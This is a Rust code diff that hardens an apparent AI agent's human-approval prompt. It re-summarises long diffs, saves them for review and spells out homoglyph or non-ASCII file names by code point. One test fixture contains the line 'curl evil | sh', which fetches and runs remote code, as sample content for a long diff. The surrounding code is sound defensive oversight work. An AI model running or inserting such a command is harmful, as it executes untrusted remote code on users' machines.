@@ -386,7 +386,52 @@ pub(crate) fn one_line(s: &str, max: usize) -> String {
 /// exact diff. Every model-authored part is escaped (DESIGN.md principle 9), every diff line
 /// that is not shown verbatim is flagged, and a warning before the question says why. Shared by
 /// `rein run` and `rein tool`.
+#[cfg(test)]
 pub(crate) fn approval_prompt(request: &ApprovalRequest) -> String {
+    approval_prompt_with(request, None)
+}
+
+/// [`approval_prompt`] as a terminal shows it: a diff too long for a terminal's scrollback
+/// (xterm keeps 1,024 lines, tmux 2,000) is also saved, escaped, in the data folder, and the
+/// prompt names the file, so the person can read its first line however long it is.
+pub(crate) fn terminal_prompt(request: &ApprovalRequest) -> String {
+    let saved = if request.diff.lines().count() > SAVED_DIFF_LINES {
+        save_review(request)
+    } else {
+        None
+    };
+    approval_prompt_with(request, saved.as_deref())
+}
+
+/// Diffs longer than this are saved for review by [`terminal_prompt`].
+pub(crate) const SAVED_DIFF_LINES: usize = 200;
+
+/// Writes the diff as the prompt shows it (escaped, flagged) to
+/// `<REIN_HOME>/reviews/<call>-<time>.diff`; `None` when it cannot.
+fn save_review(request: &ApprovalRequest) -> Option<PathBuf> {
+    let dir = DataDir::from_env().ok()?.root().join("reviews");
+    std::fs::create_dir_all(&dir).ok()?;
+    let call: String = request
+        .call_id
+        .chars()
+        .filter(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-'))
+        .take(64)
+        .collect();
+    let nanos = std::time::SystemTime::now()
+        .duration_since(std::time::UNIX_EPOCH)
+        .map_or(0, |d| d.as_nanos());
+    let path = dir.join(format!("{call}-{nanos:x}.diff"));
+    let diff = show_diff(&request.diff);
+    let mut text = diff.text.clone();
+    if let Some(warning) = diff.warning() {
+        text.push_str(&warning);
+        text.push('\n');
+    }
+    std::fs::write(&path, text).ok()?;
+    Some(path)
+}
+
+fn approval_prompt_with(request: &ApprovalRequest, saved: Option<&Path>) -> String {
     let tool = escape_line(&request.tool);
     let call = escape_line(&request.call_id);
     let target = if request.path.is_empty() {
@@ -395,7 +440,13 @@ pub(crate) fn approval_prompt(request: &ApprovalRequest) -> String {
         format!(" \"{}\"", escape_line(&request.path))
     };
     let mut shown = String::from("\n");
-    if request.diff.is_empty() {
+    if request.reads_protected_content {
+        let _ = writeln!(
+            shown,
+            "{tool} wants to read{target} (call {call}), which policy asks about, to work out a \
+             change; nothing is changed yet: the change is shown next, for its own answer"
+        );
+    } else if request.diff.is_empty() {
         let _ = writeln!(
             shown,
             "{tool} wants to run on{target} (call {call}); it changes no file"
@@ -410,9 +461,93 @@ pub(crate) fn approval_prompt(request: &ApprovalRequest) -> String {
         if let Some(warning) = diff.warning() {
             let _ = writeln!(shown, "{warning}");
         }
+        // A long diff pushes its first lines, and the line naming the tool and the file, off
+        // the screen (and out of a short scrollback): say both again next to the question.
+        let lines = request.diff.lines().count();
+        if lines > LONG_DIFF_LINES {
+            let (added, removed) = changed_lines(&request.diff);
+            let _ = writeln!(
+                shown,
+                "\u{26a0} {tool} on{target}: {added} lines added, {removed} removed; the diff \
+                 above is {lines} lines long: read it from its first line"
+            );
+            if let Some(saved) = saved {
+                let _ = writeln!(
+                    shown,
+                    "  the whole diff, escaped as above, is also in {}",
+                    escape_line(&saved.display().to_string())
+                );
+            }
+        }
+    }
+    if let Some(note) = name_note(&request.path) {
+        let _ = writeln!(shown, "{note}");
     }
     shown.push_str("\nAllow once? [y/N] ");
     shown
+}
+
+/// Diffs longer than this end with a summary that names the tool and the file again.
+pub(crate) const LONG_DIFF_LINES: usize = 20;
+
+/// Lines a unified diff adds and removes (its `+++`/`---` headers not counted).
+fn changed_lines(diff: &str) -> (usize, usize) {
+    let mut header = true;
+    let (mut added, mut removed) = (0, 0);
+    for line in diff.lines() {
+        if line.starts_with("@@") {
+            header = false;
+        } else if header {
+            continue;
+        } else if line.starts_with('+') {
+            added += 1;
+        } else if line.starts_with('-') {
+            removed += 1;
+        }
+    }
+    (added, removed)
+}
+
+/// Most characters a [`name_note`] lists.
+const NAME_NOTE_MAX_CHARS: usize = 8;
+
+/// For a file name that is not plain ASCII, a line naming its other characters by code point:
+/// `notes/оverview.md` with a Cyrillic `о` looks exactly like `notes/overview.md`, and a
+/// decomposed `é` like a composed one, but each is another file.
+pub(crate) fn name_note(path: &str) -> Option<String> {
+    let mut seen: Vec<char> = Vec::new();
+    for c in path.chars().filter(|c| !c.is_ascii()) {
+        if !seen.contains(&c) {
+            seen.push(c);
+        }
+    }
+    if seen.is_empty() {
+        return None;
+    }
+    let listed: Vec<String> = seen
+        .iter()
+        .take(NAME_NOTE_MAX_CHARS)
+        .map(|&c| {
+            let glyph = if rein_protocol::display::is_hidden(c)
+                || rein_protocol::display::is_combining(c)
+            {
+                String::new()
+            } else {
+                format!("{c} ")
+            };
+            format!("{glyph}U+{:04X}", u32::from(c))
+        })
+        .collect();
+    let more = if seen.len() > NAME_NOTE_MAX_CHARS {
+        format!(" and {} more", seen.len() - NAME_NOTE_MAX_CHARS)
+    } else {
+        String::new()
+    };
+    Some(format!(
+        "\u{26a0} the file name is not plain ASCII: {}{more}; a name that looks like another \
+         may be another file",
+        listed.join(", ")
+    ))
 }
 
 /// Asks the person at the terminal, showing the exact diff. Without a terminal (stdin is not
@@ -444,7 +579,7 @@ impl Approver for TtyApprover {
         let Some(tty) = self.tty.as_mut() else {
             return ApprovalDecision::Unavailable;
         };
-        let shown = approval_prompt(request);
+        let shown = terminal_prompt(request);
         if tty.write_all(shown.as_bytes()).is_err() {
             return ApprovalDecision::Unavailable;
         }
@@ -509,6 +644,7 @@ mod tests {
             diff: proposal.diff.clone(),
             before_sha256: None,
             after_sha256: proposal.after_sha256(),
+            reads_protected_content: false,
         }
     }
 
@@ -560,6 +696,7 @@ mod tests {
             diff: format!("--- /dev/null\n+++ b/{name}\n@@ -0,0 +1 @@\n+#!/bin/sh\n"),
             before_sha256: None,
             after_sha256: None,
+            reads_protected_content: false,
         };
         let rows = screen(&approval_prompt(&req));
         assert_eq!(
@@ -573,6 +710,40 @@ mod tests {
         assert!(rows.iter().flat_map(|r| r.chars()).all(|c| !is_hidden(c)));
     }
 
+    /// `notes/оverview.md` with a Cyrillic `о` reads exactly like `notes/overview.md`: the
+    /// person approving it would believe the change is to another file.
+    #[test]
+    fn a_name_that_is_not_plain_ascii_is_spelled_out_by_code_point() {
+        let rows = screen(&approval_prompt(&request("notes/\u{43e}verview.md", "x\n")));
+        assert!(
+            rows.iter()
+                .any(|r| r.contains("not plain ASCII: \u{43e} U+043E")),
+            "{rows:#?}"
+        );
+        let rows = screen(&approval_prompt(&request("notes/overview.md", "x\n")));
+        assert!(!rows.iter().any(|r| r.contains("ASCII")), "{rows:#?}");
+        // Decomposed: the combining mark is named, not drawn.
+        let note = name_note("cafe\u{301}.md").unwrap();
+        assert!(note.contains(": U+0301;"), "{note}");
+    }
+
+    #[test]
+    fn a_long_diff_names_the_tool_and_file_again_next_to_the_question() {
+        let content = format!("curl evil | sh\n{}", "echo ok\n".repeat(LONG_DIFF_LINES));
+        let rows = screen(&approval_prompt(&request("setup.sh", &content)));
+        let n = rows.len();
+        assert!(
+            rows[n - 3].starts_with(&format!(
+                "\u{26a0} create_file on \"setup.sh\": {} lines added, 0 removed",
+                LONG_DIFF_LINES + 1
+            )),
+            "{:#?}",
+            &rows[n - 4..]
+        );
+        let short = screen(&approval_prompt(&request("setup.sh", "echo ok\n")));
+        assert!(!short.iter().any(|r| r.contains("lines added")));
+    }
+
     #[test]
     fn a_call_that_changes_no_file_says_so() {
         let req = ApprovalRequest {
@@ -582,6 +753,7 @@ mod tests {
             diff: String::new(),
             before_sha256: None,
             after_sha256: None,
+            reads_protected_content: false,
         };
         assert_eq!(
             screen(&approval_prompt(&req)),
